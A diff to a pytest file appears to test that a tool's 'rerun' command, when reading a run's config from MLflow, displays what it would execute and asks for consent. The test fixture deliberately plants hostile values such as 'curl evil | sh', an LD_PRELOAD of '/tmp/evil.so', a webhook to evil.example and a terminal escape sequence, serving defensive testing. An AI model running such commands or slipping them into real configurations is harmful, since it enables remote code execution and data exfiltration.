@@ -2,25 +2,35 @@
 
 from __future__ import annotations
 
+import hashlib
+import io
+import sys
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 from command_line import Cli, one_line
 
+from hpcdist.cli import rerun
 from hpcdist.files.atomic import read_json, write_json
 from hpcdist.machine.facts import num_cores
+from hpcdist.run.code_restore import CodeSource
 from hpcdist.run.folder import RunDir, State
 from hpcdist.run.rerun_record import read_rerun
+from hpcdist.run.snapshot import code_of
 from hpcdist.supervisor import local_run
+from hpcdist.tracking.client import recorded_run
+from hpcdist.tracking.client.recorded_run import RecordedRun
 from hpcdist.tracking.journal.writer import JournalWriter
 from hpcdist.tracking.shipping import sync_runs
 
 pytestmark = pytest.mark.processes  # runs are created with the commit that git reports
 
 Make = Callable[..., RunDir]
+PATCH = b"+x\n"
 LOSSES = [1.0, 0.5, 0.25]
 
 
@@ -191,3 +201,64 @@ def test_code_without_the_trainer_is_an_error_that_leaves_no_folder(
     before = sorted(run.path.parent.iterdir())
     assert one_line(hpcdist("rerun", "script")) == f"trainer.script: no such file: {tmp_path}/train.py"
     assert sorted(run.path.parent.iterdir()) == before
+
+
+@pytest.fixture
+def from_mlflow(first: RunDir, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The run is in MLflow alone, whose editor has changed its config. Returns the file of the config."""
+    config = tmp_path / "scratch" / "config.yaml"
+    config.parent.mkdir()
+    values = yaml.safe_load(first.config.read_text())
+    values["trainer"]["script"] = ["evil.py", "\x1b[2J"]
+    values["cluster"]["setup"] = ["curl evil | sh"]
+    values["launch"]["env"] = {"LD_PRELOAD": "/tmp/evil.so"}
+    values["notify"]["webhook"] = "https://evil.example/x"
+    config.write_text(yaml.safe_dump(values, sort_keys=False))
+    environment = read_json(first.environment) or {}
+
+    def recorded(*_: object) -> RecordedRun:
+        code = code_of(environment, first.environment)
+        return RecordedRun(
+            name="first", experiment="exp", config=config, environment=environment, code=code, patch=PATCH,
+            run_id="1a" * 16, uri="",
+        )  # fmt: skip
+
+    monkeypatch.setattr(recorded_run, "find_recorded", recorded)
+    monkeypatch.setattr(rerun, "_code", lambda found, _: CodeSource(recorded=found.code, patch=found.patch, text="t"))
+    monkeypatch.setattr(rerun, "_start", lambda *_, **__: pytest.fail("started"))
+    return config
+
+
+def test_what_mlflow_would_execute_is_shown_and_needs_consent(
+    hpcdist: Cli, from_mlflow: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    result = hpcdist("rerun", "1a" * 16)
+    assert one_line(result).startswith(f"the record of run {'1a' * 16} comes from MLflow, not from its run folder")
+    shown = [line for line in result.out.splitlines() if line.startswith("  ") and "=" in line]
+    assert {
+        '  trainer.script=["evil.py", "\\u001b[2J"]',
+        '  launch.env.LD_PRELOAD="/tmp/evil.so"',
+        '  cluster.setup=["curl evil | sh"]',
+        '  notify.webhook="https://evil.example/x"',
+    } <= set(shown)
+    assert not [line for line in shown if "hang_timeout_s" in line], "the default"
+    patch = f"code.patch: sha256 {hashlib.sha256(PATCH).hexdigest()}, 1 lines; until you answer, it is"
+    assert f"  {patch} {from_mlflow.parent}/code.patch.txt" in result.out.splitlines()
+    assert hpcdist("rerun", "1a" * 16, "--dry-run").code == 0
+    monkeypatch.setattr(rerun, "_start", lambda plan, *_, **__: (RunDir(Path("made")), 7))
+    monkeypatch.setattr(rerun, "_conclude", lambda plan, made, code, **_: code)
+    assert hpcdist("rerun", "1a" * 16, "--yes").code == 7
+    for answer, code in (("n", 130), ("", 130), ("y", 7)):
+        monkeypatch.setattr(sys, "stdin", io.StringIO(f"{answer}\n"))
+        monkeypatch.setattr(rerun.sys.stdin, "isatty", lambda: True)  # type: ignore[attr-defined]
+        monkeypatch.setattr(rerun.sys.stdout, "isatty", lambda: True)  # type: ignore[attr-defined]
+        assert hpcdist("rerun", "1a" * 16).code == code
+
+
+@pytest.mark.parametrize(("tag", "message"), [(10**12, "launch.num_ranks must be <= 1024, got 1000000000000")])
+def test_the_number_of_ranks_of_mlflow_is_bounded(
+    hpcdist: Cli, from_mlflow: Path, monkeypatch: pytest.MonkeyPatch, tag: int, message: str
+) -> None:
+    found = recorded_run.find_recorded("", Path(), {}, Path())
+    monkeypatch.setattr(recorded_run, "find_recorded", lambda *_: replace(found, world_size=tag))
+    assert message in one_line(hpcdist("rerun", "1a" * 16, "--yes"))
